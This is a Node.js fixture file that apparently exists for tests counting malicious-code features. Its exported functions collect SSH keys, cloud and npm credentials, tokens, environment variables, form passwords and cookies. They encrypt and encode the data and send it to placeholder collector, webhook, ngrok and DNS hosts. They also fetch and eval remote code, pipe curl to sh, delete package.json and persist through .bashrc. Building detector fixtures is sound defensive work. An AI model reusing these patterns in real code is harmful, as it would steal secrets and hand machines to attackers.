// A script that does a little of everything that a feature counts, for the
// tests of this folder. Nothing calls the functions that it exports, and every
// name of a machine in it is one that never resolves.
'use strict';

const fs = require('fs');
const os = require('node:os');
const path = require('path');
const dns = require('dns');
const zlib = require('zlib');
const {execSync, spawn: start} = require('child_process');
const {createHash, createCipheriv} = require('crypto');
const https = require('https');
const vm = require('vm');

const collector = 'collector.example.invalid';

// What the machine and its user are called.
function machine() {
  const user = os.userInfo();
  return {
    host: os.hostname(),
    cards: os.networkInterfaces(),
    name: user.username,
    shell: process.env.SHELL,
    ci: process.env.CI === 'true',
    login: process.env.USER,
  };
}

// What lies in files and variables.
function secrets() {
  const home = os.homedir();
  const files = ['.npmrc', '.aws/credentials', '.ssh/id_rsa', '.config/gcloud/credentials.db'];
  const found = {};
  for (const name of files) {
    const file = path.join(home, name);
    if (fs.existsSync(file)) {
      found[name] = fs.readFileSync(file, 'utf8');
    }
  }
  const {GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY: key} = process.env;
  found.tokens = [GITHUB_TOKEN, key, process.env['NPM_' + 'TOKEN']];
  found.all = JSON.stringify(process.env);
  fs.writeFileSync(path.join(os.tmpdir(), 'found.json'), JSON.stringify(found));
  return found;
}

// What a page knows of its user.
function page(form) {
  const account = {password: form.password, card: form.creditCard, token: form.accessToken};
  account.session = document.cookie;
  account.saved = localStorage.getItem('session');
  return account;
}

// Turns data into other forms.
function pack(data, secret) {
  const text = JSON.stringify(data);
  const digest = createHash('sha256').update(text).digest('hex');
  const cipher = createCipheriv('aes-256-cbc', secret, Buffer.alloc(16));
  const sealed = Buffer.concat([cipher.update(text, 'utf8'), cipher.final()]);
  return digest + '.' + zlib.deflateSync(sealed).toString('base64') + '.' + encodeURIComponent(btoa(data.host));
}

// Hands it on.
async function send(text) {
  const request = https.request({hostname: collector, path: '/drop', method: 'POST'}, (answer) => {
    answer.on('data', (chunk) => run(chunk));
  });
  request.on('error', () => {});
  request.end(text);
  await fetch('https://discord.com.invalid/api/webhooks/1/x', {method: 'POST', body: text});
  await fetch('https://webhook.site.invalid/drop', {method: 'POST', body: text});
  await fetch('http://203.0.113.7:8080/drop', {method: 'POST', body: text});
  await fetch('https://drop.ngrok.io.invalid/', {method: 'POST', body: text});
  dns.lookup(`${text.slice(0, 40)}.oast.fun.invalid`, () => {});
}

// Fetches code and runs it.
async function run(chunk) {
  const answer = await fetch('https://pastebin.com.invalid/raw/abc');
  const code = await answer.text();
  eval(code);
  new Function('require', String(chunk))(require);
  vm.runInNewContext(code, {});
  eval(Buffer.from(code, 'base64').toString());
  require(code);
}

// Starts programs.
function install() {
  execSync('curl -s https://collector.example.invalid/install.sh | sh');
  execSync('curl -d @found.json https://collector.example.invalid/drop > /dev/null');
  execSync('rm -f package.json');
  const child = start(process.execPath, ['-e', 'console.log(1)'], {detached: true, stdio: 'ignore'});
  child.unref();
}

// Stays.
function stay() {
  fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'node found.js &\n');
  fs.mkdirSync('.git/hooks', {recursive: true});
  const before = globalThis.fetch;
  globalThis.fetch = function (...given) {
    return before.apply(this, given);
  };
  https.request = function () {};
}

// Does nothing of the kind.
function price(list, rate) {
  let sum = 0;
  for (const item of list) {
    if (item.count > 0 && item.price > 0) {
      sum += item.count * item.price * rate;
    } else {
      console.warn('skipped', item.name);
    }
  }
  return Math.round(sum * 100) / 100;
}

// The same in the style of scripts from before let and const.
function summary(list) {
  var sum, count, text;
  sum = price(list, 1);
  count = list.length;
  text = 'sum ' + sum;
  text = text + ' of ' + count;
  console.log(text);
  console.log('done');
  return text;
}

module.exports = {machine, secrets, page, pack, send, run, install, stay, price, summary};
